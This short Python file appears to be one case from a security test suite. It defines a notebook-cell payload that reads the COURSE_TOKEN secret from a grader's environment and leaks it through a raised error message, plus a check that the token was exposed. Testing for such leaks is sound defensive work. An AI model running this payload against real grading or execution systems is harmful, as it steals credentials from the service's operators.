"""Reads the environment of the grader, where tokens lie.

It worked if the course's token is in what the attacker gets to see.
"""

from room import Seen

CELL = """
import os
raise RuntimeError(os.environ["COURSE_TOKEN"])
"""


def succeeded(seen: Seen) -> bool:
    return seen.leaked("token")
